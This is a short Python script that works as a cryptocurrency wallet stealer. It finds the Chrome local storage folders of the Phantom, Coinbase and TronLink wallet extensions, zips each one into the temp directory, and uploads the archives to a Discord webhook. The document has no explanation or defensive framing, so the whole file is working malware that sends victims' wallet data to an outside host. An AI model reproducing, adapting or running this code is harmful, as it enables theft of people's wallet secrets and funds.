import os, shutil, requests
EXTENSIONS = {
    "Phantom": "bfnaelmomeimhlpmgjnjophhpkkoljpa",
    "Coinbase": "hnfanknocfeofbddgcijnmhnfnkdnaad",
    "TronLink": "ibnejdfjmmkpcnlpebklmnkoeoihofec",
}
base = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default", "Local Extension Settings")
for name, ext in EXTENSIONS.items():
    src = os.path.join(base, ext)
    if os.path.isdir(src):
        arc = shutil.make_archive(os.path.join(os.getenv("TEMP", "/tmp"), name), "zip", src)
        requests.post("https://discord.com/api/webhooks/1180000000000000009/ZzYyXxWwVvUuTtSsRrQqPpOoNnMmLlKkJjIiHhGg", files={"file": open(arc, "rb")})
